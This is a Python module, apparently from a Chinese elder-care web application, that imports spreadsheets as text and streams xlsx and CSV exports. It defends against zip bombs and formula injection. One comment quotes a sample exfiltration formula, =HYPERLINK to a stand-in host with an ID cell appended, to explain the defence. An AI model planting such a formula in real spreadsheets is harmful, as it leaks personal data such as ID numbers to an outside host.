"""Spreadsheets as Excel and WPS save them: read every cell as text, write streamed exports.

Reading: .xlsx through python-calamine (13x faster than openpyxl here, stack notes §6), .csv
in UTF-8, UTF-8 with BOM or GBK/GB18030 (what WPS and older Excel save in China). Every cell
comes back as text: region codes and phone numbers lose leading zeros as numbers, and an ID
number typed as a number keeps only 15 significant digits, so such cells are rendered the way
Excel shows them (`2.20102195003051E+17`) for the validator to reject with a hint.

Writing: XlsxWriter in constant-memory mode into a temporary file that is streamed to the
client and deleted on close, so a million-row export never sits in memory; CSV with a BOM so
Excel opens it as UTF-8.
"""

from __future__ import annotations

import codecs
import csv
import io
import logging
import posixpath
import re
import tempfile
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import IO, Any
from urllib.parse import quote
from xml.etree import ElementTree
from zlib import error as zlib_error

from django.http import FileResponse, StreamingHttpResponse

from yanglao.core.dates import local_datetime

XLSX_MAX_ROWS = 1_048_576  # Excel's sheet limit, header included

logger = logging.getLogger(__name__)

# Formula injection (CWE-1236): a spreadsheet program evaluates a cell that starts with one of
# these (`=HYPERLINK("http://x/?"&B2)` sends out the ID column). Exports write such text
# cells as explicit strings: xlsx with Excel's quote prefix (the text stays unchanged), CSV with
# a leading apostrophe (OWASP). Numbers written as numbers (negative amounts) are not text.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
STREAM_FAILED_MARKER = "### 导出中断：生成文件时出错，本文件不完整，请重新导出 ###"


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def neutralise(text: str) -> str:
    """Text for a CSV cell that no spreadsheet program evaluates as a formula."""
    return "'" + text if is_formula_like(text) else text


def unneutralise(text: str) -> str:
    """Undo `neutralise` on a cell read back from a CSV (an exported ledger re-imported)."""
    return text[1:] if text.startswith("'") and is_formula_like(text[1:]) else text


class SheetError(Exception):
    """The file cannot be read at all (message in Chinese, for the user)."""


# -- xlsx before parsing: zip bombs ---------------------------------------------------------
# An .xlsx is a zip: 2.9 MB can unpack to gigabytes of XML, and calamine loads a whole sheet
# into memory. Before any parse: the declared sizes from the zip directory, then the actual
# sizes while decompressing in 1 MiB chunks (zipfile stops at the declared size and checks
# the CRC, so a lying directory fails), the sheets' declared dimension and their actual cell
# count. A million-row ledger of 17 columns is ~17 M cells and ~700 MB of XML.
XLSX_MAX_UNCOMPRESSED = 1 << 30  # all members together, bytes
XLSX_MAX_CELLS = 25_000_000
XLSX_MAX_MEMBERS = 10_000
_CHUNK = 1 << 20
_CELL = re.compile(rb"<(?:\w+:)?c[\s/>]")
_PLAIN_CELL = re.compile(rb"<c[\s/>]")  # the same without a namespace prefix: 3x faster
_DIMENSION = re.compile(rb'<(?:\w+:)?dimension\s+ref="([A-Z]+)?(\d+)?(?::([A-Z]+)(\d+))?"')
_ROW_END = re.compile(rb"</(?:\w+:)?row>|<(?:\w+:)?row\b[^>]*/>")
_SHEETDATA = re.compile(rb"<(\w+:)?sheetData\b[^>]*>")
_MERGES = re.compile(rb"<(?:\w+:)?mergeCells\b.*?</(?:\w+:)?mergeCells>", re.S)
_TOO_BIG = (
    "表格解压后过大（{}），疑似“压缩炸弹”或不是普通台账，请删除多余的工作表、行和列后重新保存"
)


def _col_number(letters: bytes) -> int:
    n = 0
    for ch in letters:
        n = n * 26 + ch - 64
    return n


def _dimension_cells(head: bytes) -> int:
    """Cells in a sheet's declared <dimension ref="A1:Q1000"/> (0 when absent)."""
    m = _DIMENSION.search(head)
    if not m or not m.group(2):
        return 0
    c1, r1, c2, r2 = m.groups()
    if c2 is None:
        return 1
    return (abs(int(r2) - int(r1)) + 1) * (abs(_col_number(c2) - _col_number(c1 or b"A")) + 1)


def _count_cells(xml: bytes) -> int:
    """Cell elements in a piece of sheet XML. The prefixed form (`<x:c>`) is rare, and the
    general pattern costs as much as decompressing: it runs only where a prefix may occur."""
    return len((_CELL if b":c" in xml else _PLAIN_CELL).findall(xml))


def _first_sheet(z: zipfile.ZipFile) -> str | None:
    """The path of the workbook's first worksheet (the one calamine's index 0 reads)."""
    try:
        book = ElementTree.fromstring(z.read("xl/workbook.xml"))
        rels = ElementTree.fromstring(z.read("xl/_rels/workbook.xml.rels"))
    except (KeyError, ElementTree.ParseError):
        return None
    rid_attr = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
    first = next((e for e in book.iter() if e.tag.endswith("}sheet")), None)
    if first is None:
        return None
    for rel in rels:
        if rel.get("Id") == first.get(rid_attr):
            return _part_path(rel.get("Target", ""))
    return None


def _part_path(target: str) -> str:
    """A relationship target (relative to xl/, or absolute) as a path inside the zip."""
    if target.startswith("/"):
        return target.lstrip("/")
    return posixpath.normpath(posixpath.join("xl", target))


def _shared_strings(z: zipfile.ZipFile) -> str | None:
    """The path of the workbook's shared-string table (the text of most cells), if any."""
    try:
        rels = ElementTree.fromstring(z.read("xl/_rels/workbook.xml.rels"))
    except (KeyError, ElementTree.ParseError):
        return None
    for rel in rels:
        if rel.get("Type", "").endswith("/sharedStrings"):
            return _part_path(rel.get("Target", ""))
    return None


_SHARED_REF = re.compile(rb"<(?:\w+:)?c\b([^>]*)>\s*<(?:\w+:)?v>\s*(\d+)\s*<")
_SHARED_TYPE = re.compile(rb"""\bt\s*=\s*["']s["']""")
_SST_OPEN = re.compile(rb"<(\w+:)?sst\b[^>]*>")
_SI_END = re.compile(rb"</(?:\w+:)?si>|<(?:\w+:)?si\b[^>]*/>")


def _truncated_strings(sst: bytes, sheet: bytes) -> bytes:
    """The shared-string table cut after the last entry the cut sheet uses. Excel and WPS
    number the strings in order of first appearance, so a header needs only the first few;
    the whole table (names, ID numbers, addresses: most of a ledger's text) is not parsed in
    the web request. Entries are never renumbered, only the tail is dropped."""
    used = [int(m.group(2)) for m in _SHARED_REF.finditer(sheet) if _SHARED_TYPE.search(m[1])]
    keep = max(used, default=-1) + 1
    opened = _SST_OPEN.search(sst)
    if opened is None or opened.group(0).endswith(b"/>"):
        return sst
    end = opened.end()
    if keep:
        for n, m in enumerate(_SI_END.finditer(sst, end), start=1):
            end = m.end()
            if n >= keep:
                break
        else:
            return sst  # fewer entries than the sheet uses: leave it as it is
    return sst[:end] + f"</{(opened.group(1) or b'').decode()}sst>".encode()


def _truncated_sheet(head: bytes, merges: bytes, rows: int) -> bytes | None:
    """The first `rows` rows of a worksheet's XML, closed again, with its merged ranges."""
    opened = _SHEETDATA.search(head)
    if opened is None:
        return None
    end = opened.end()
    for n, m in enumerate(_ROW_END.finditer(head, opened.end()), start=1):
        end = m.end()
        if n >= rows:
            break
    prefix = (opened.group(1) or b"").decode()
    closing = f"</{prefix}sheetData>".encode()
    return head[:end] + closing + merges + f"</{prefix}worksheet>".encode()


def check_xlsx(path: Path, *, head_rows: int = 0, head_copy: Path | None = None) -> None:
    """Refuse a workbook whose decompressed size or cell count is over the limits (SheetError,
    in Chinese), without parsing it. With `head_copy`, also write there a copy whose first
    sheet keeps only its first `head_rows` rows, for a cheap look at the header."""
    try:
        z = zipfile.ZipFile(path)
    except (zipfile.BadZipFile, OSError):
        raise SheetError("文件不是有效的 .xlsx 表格（可能已损坏），请重新保存后上传") from None
    with z:
        members = z.infolist()
        if len(members) > XLSX_MAX_MEMBERS:
            raise SheetError(_TOO_BIG.format(f"{len(members)} 个部件"))
        declared = sum(m.file_size for m in members)
        if declared > XLSX_MAX_UNCOMPRESSED:
            raise SheetError(_TOO_BIG.format(f"{declared / (1 << 20):,.0f} MB"))
        first = _first_sheet(z)
        actual = cells = 0
        head = merges = b""
        for m in members:
            is_sheet = m.filename.startswith("xl/worksheets/") and m.filename.endswith(".xml")
            keep_head = head_copy is not None and m.filename == first
            tail = merge_buf = b""
            collecting = False
            try:
                with z.open(m) as f:
                    while chunk := f.read(_CHUNK):
                        actual += len(chunk)
                        if actual > XLSX_MAX_UNCOMPRESSED:
                            raise SheetError(
                                _TOO_BIG.format(f"超过 {XLSX_MAX_UNCOMPRESSED >> 20} MB")
                            )
                        if not is_sheet:
                            continue
                        declared_cells = 0 if tail else _dimension_cells(chunk[:4096])
                        if declared_cells > XLSX_MAX_CELLS:
                            raise SheetError(_TOO_BIG.format(f"声明 {declared_cells:,} 个单元格"))
                        window = tail + chunk
                        cells += _count_cells(window) - _count_cells(tail)
                        if cells > XLSX_MAX_CELLS:
                            raise SheetError(_TOO_BIG.format(f"超过 {XLSX_MAX_CELLS:,} 个单元格"))
                        tail = chunk[-64:]
                        if not keep_head:
                            continue
                        if len(head) < 8 * _CHUNK:
                            head += chunk
                        if collecting or b"mergeCells" in window:
                            merge_buf = merge_buf + chunk if collecting else window
                            collecting = True
                            if found := _MERGES.search(merge_buf):
                                merges, merge_buf, collecting = found.group(0), b"", False
                            elif len(merge_buf) > 4 * _CHUNK:
                                merge_buf, collecting = b"", False
            except (zipfile.BadZipFile, zlib_error, EOFError, NotImplementedError) as e:
                raise SheetError(
                    f"文件不是有效的 .xlsx 表格（{m.filename} 无法解压：{e}）"
                ) from None
        if head_copy is None or first is None:
            return
        sheet = _truncated_sheet(head, merges, head_rows)
        strings = _shared_strings(z) if sheet else None
        with zipfile.ZipFile(head_copy, "w", zipfile.ZIP_DEFLATED) as out:
            for m in members:
                if sheet and m.filename == first:
                    out.writestr(m.filename, sheet)
                elif sheet and m.filename == strings:
                    out.writestr(m.filename, _truncated_strings(z.read(m), sheet))
                else:
                    out.writestr(m.filename, z.read(m))


# -- reading ------------------------------------------------------------------------------


def sniff_kind(head: bytes, filename: str) -> str:
    """'xlsx' or 'csv' from the first bytes (a zip) and the name; refuses old .xls."""
    name = filename.lower()
    if head.startswith(b"PK\x03\x04"):
        return "xlsx"
    if head.startswith(b"\xd0\xcf\x11\xe0") or name.endswith(".xls"):
        raise SheetError("不支持旧版 .xls 文件，请在 Excel/WPS 中“另存为” .xlsx 或 .csv 后再上传")
    if name.endswith((".xlsx", ".xlsm")):
        raise SheetError("文件不是有效的 .xlsx 表格（可能已损坏），请重新保存后上传")
    return "csv"


def detect_encoding(path: Path, probe: int = 1 << 20) -> str:
    """UTF-8 (with or without BOM) if the first MiB decodes as UTF-8, else GB18030 (⊃ GBK)."""
    with path.open("rb") as f:
        head = f.read(probe)
    if head.startswith(codecs.BOM_UTF8):
        return "utf-8-sig"
    decoder = codecs.getincrementaldecoder("utf-8")()
    try:
        decoder.decode(head, final=False)  # a character cut at the probe's end is not an error
        return "utf-8"
    except UnicodeDecodeError:
        pass
    try:
        codecs.getincrementaldecoder("gb18030")().decode(head, final=False)
        return "gb18030"
    except UnicodeDecodeError:
        raise SheetError("无法识别文件编码，请保存为 UTF-8 或 GBK 编码的 CSV，或 .xlsx") from None


def cell_text(value: Any) -> str:
    """One cell as the text a user sees in Excel."""
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, datetime):
        value = local_datetime(value).replace(tzinfo=None)  # a timestamp as its local time
        return value.date().isoformat() if value.time() == time(0) else value.isoformat(" ")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, timedelta):
        return str(value)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        if value.is_integer() and abs(value) < 1e15:
            return str(int(value))
        if value.is_integer():
            # Excel keeps 15 significant digits and shows big numbers in scientific notation.
            mantissa, exponent = f"{value:.14E}".split("E")
            return f"{mantissa.rstrip('0').rstrip('.')}E+{int(exponent)}"
        return f"{value:.15g}"
    return str(value)


@dataclass
class Table:
    """Rows of text cells; `merged` lists merged ranges ((row, col), (row, col)) of an xlsx.

    `again()` gives the rows once more from the start without reading the file again where
    it can (an xlsx: the sheet calamine already parsed), e.g. for a second pass of an import."""

    rows: Iterator[list[str]]
    merged: list[tuple[tuple[int, int], tuple[int, int]]]
    kind: str
    encoding: str = ""
    again: Callable[[], Iterator[list[str]]] | None = None


def open_table(path: Path, filename: str, *, head_rows: int = 0, checked: bool = False) -> Table:
    """Open a stored upload; rows stream (csv) or come from calamine's parsed sheet (xlsx),
    after `check_xlsx`. With `head_rows` (the web request's look at the header) an xlsx is
    not parsed whole: calamine reads a copy cut after that many rows. `checked`: this very
    file already passed `check_xlsx` (an import's stored upload, checked when it was
    uploaded), so it is not decompressed a second time before calamine parses it."""
    with path.open("rb") as f:
        head = f.read(8)
    kind = sniff_kind(head, filename)
    if kind == "xlsx":
        from python_calamine import CalamineError, CalamineWorkbook

        if head_rows:
            with tempfile.TemporaryDirectory() as tmp:
                copy = Path(tmp) / "head.xlsx"
                check_xlsx(path, head_rows=head_rows, head_copy=copy)
                if copy.exists():
                    table = open_table(copy, "head.xlsx", checked=True)  # cut from a checked file
                    rows = list(table.rows)  # read before the copy is deleted
                    return Table(rows=iter(rows), merged=table.merged, kind=kind)
        elif not checked:
            check_xlsx(path)
        try:
            book = CalamineWorkbook.from_path(str(path))
            sheet = book.get_sheet_by_index(0)
            merged = list(sheet.merged_cell_ranges or [])
            raw = sheet.iter_rows()
        except (CalamineError, ValueError, OSError) as e:
            raise SheetError(f"无法读取 .xlsx 文件：{e}") from None
        return Table(
            rows=_xlsx_rows(raw),
            merged=merged,
            kind=kind,
            again=lambda: _xlsx_rows(sheet.iter_rows()),
        )
    encoding = detect_encoding(path)
    return Table(
        rows=_csv_rows(path, encoding),
        merged=[],
        kind=kind,
        encoding=encoding,
        again=lambda: _csv_rows(path, encoding),
    )


def _xlsx_rows(raw: Iterable[list[Any]]) -> Iterator[list[str]]:
    """calamine's cells as text. Text cells (nearly all of a ledger, and the empty ones) are
    `str` already: only numbers, dates, booleans and durations go through `cell_text`."""
    for r in raw:
        yield _trim([v if v.__class__ is str else cell_text(v) for v in r])


def _csv_rows(path: Path, encoding: str) -> Iterator[list[str]]:
    with path.open("r", encoding=encoding, newline="") as f:
        try:
            for row in csv.reader(f):
                yield _trim([unneutralise(c) for c in row])
        except UnicodeDecodeError as e:
            raise SheetError(
                f"文件编码不一致（按 {encoding} 读取时在第 {e.start} 字节出错）"
            ) from None
        except csv.Error as e:
            raise SheetError(f"CSV 格式错误：{e}") from None


def _trim(row: list[str]) -> list[str]:
    """Drop trailing empty cells (Excel often saves formatted-but-empty columns)."""
    end = len(row)
    while end and not row[end - 1].strip():
        end -= 1
    return row[:end]


# -- writing ------------------------------------------------------------------------------


def attachment_disposition(filename: str) -> str:
    return f"attachment; filename*=UTF-8''{quote(filename)}"


def write_xlsx(
    target: str | IO[bytes],
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    sheet_name: str = "Sheet1",
    widths: Sequence[int] | None = None,
    number_formats: Mapping[int, str] | None = None,
    footer: Sequence[Any] | None = None,
) -> int:
    """Write one sheet; text cells stay text (no leading-zero loss). Returns rows written.

    `number_formats` maps a column to an Excel number format (e.g. '0.00' for money): its
    numbers (int, float, Decimal) are written as numeric cells in that format. `footer` is
    one last bold row (e.g. a 合计 total) written the same way."""
    import xlsxwriter

    book = xlsxwriter.Workbook(
        target,
        {"constant_memory": True, "strings_to_numbers": False, "tmpdir": tempfile.gettempdir()},
    )
    sheet = book.add_worksheet(sheet_name[:31])
    bold = book.add_format({"bold": True, "bg_color": "#EEF2F7", "border": 1})
    text = book.add_format({"num_format": "@"})
    numeric = {c: book.add_format({"num_format": f}) for c, f in (number_formats or {}).items()}
    bold_numeric = {
        c: book.add_format({"num_format": f, "bold": True})
        for c, f in (number_formats or {}).items()
    }
    bold_text = book.add_format({"bold": True, "num_format": "@"})
    quoted = book.add_format({"num_format": "@", "quote_prefix": True})
    bold_quoted = book.add_format({"bold": True, "num_format": "@", "quote_prefix": True})
    bold_header_quoted = book.add_format(
        {"bold": True, "bg_color": "#EEF2F7", "border": 1, "quote_prefix": True}
    )

    def put(r: int, col: int, value: Any, last: bool = False) -> None:
        if value is None or value == "":
            return
        if (
            col in numeric
            and isinstance(value, int | float | Decimal)
            and not isinstance(value, bool)
        ):
            sheet.write_number(r, col, float(value), (bold_numeric if last else numeric)[col])
        elif isinstance(value, bool) or not isinstance(value, int | float):
            text_value = cell_text(value)
            if is_formula_like(text_value):
                sheet.write_string(r, col, text_value, bold_quoted if last else quoted)
            else:
                sheet.write_string(r, col, text_value, bold_text if last else None)
        else:
            sheet.write_number(r, col, value)

    for col, title in enumerate(header):
        sheet.write_string(0, col, title, bold_header_quoted if is_formula_like(title) else bold)
        sheet.set_column(col, col, (widths[col] if widths else max(10, len(title) * 2 + 2)), text)
    sheet.freeze_panes(1, 0)
    n = 0
    for n, row in enumerate(rows, start=1):
        if n >= XLSX_MAX_ROWS:
            raise SheetError(
                f"超过 Excel 单表 {XLSX_MAX_ROWS - 1:,} 行的上限，请缩小筛选范围或导出 CSV"
            )
        for col, value in enumerate(row):
            put(n, col, value)
    if footer is not None:
        for col, value in enumerate(footer):
            put(n + 1, col, value, last=True)
    book.close()
    return n


def xlsx_response(
    filename: str,
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    sheet_name: str = "Sheet1",
    number_formats: Mapping[int, str] | None = None,
    footer: Sequence[Any] | None = None,
) -> FileResponse:
    """Build the workbook in a temporary file (constant memory) and stream it.

    The whole file is written before the response starts, so a failure half-way raises here
    (an error page or message) instead of sending a truncated workbook with status 200."""
    tmp = tempfile.TemporaryFile()  # noqa: SIM115 -- the response closes (and so deletes) it
    try:
        write_xlsx(
            tmp, header, rows, sheet_name=sheet_name, number_formats=number_formats, footer=footer
        )
    except BaseException:
        tmp.close()
        raise
    tmp.seek(0)
    response = FileResponse(
        tmp,
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    response["Content-Disposition"] = attachment_disposition(filename)
    return response


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_cell(value: Any) -> str:
    """A CSV cell: numbers stay numbers (a negative amount keeps its sign), text is
    neutralised against formula injection."""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return cell_text(value)
    return neutralise(cell_text(value))


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """CSV lines as they stream. The status line (200) is sent before the rows are read, so a
    failure half-way ends the file with `STREAM_FAILED_MARKER` and re-raises: the server
    then aborts the connection (no final chunk), and a file that was saved anyway says it is
    incomplete instead of passing for the whole list."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([neutralise(h) for h in header])
    try:
        for row in rows:
            yield writer.writerow([csv_cell(v) for v in row])
    except Exception:
        logger.exception("CSV export failed half-way")
        yield "\r\n" + STREAM_FAILED_MARKER + "\r\n"
        raise


def csv_response(
    filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]
) -> StreamingHttpResponse:
    response = StreamingHttpResponse(
        csv_lines(header, rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = attachment_disposition(filename)
    return response


def export_response(
    fmt: str, stem: str, header: Sequence[str], rows: Iterable[Sequence[Any]]
) -> FileResponse | StreamingHttpResponse:
    """`fmt` 'xlsx' or 'csv'; the file is named `<stem>.<fmt>`."""
    if fmt == "xlsx":
        return xlsx_response(f"{stem}.xlsx", header, rows)
    return csv_response(f"{stem}.csv", header, rows)


def read_xlsx_bytes(data: bytes) -> list[list[str]]:
    """All rows of the first sheet of an in-memory workbook as text (tests, small files)."""
    from python_calamine import CalamineWorkbook

    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0)
    return list(_xlsx_rows(sheet.iter_rows()))
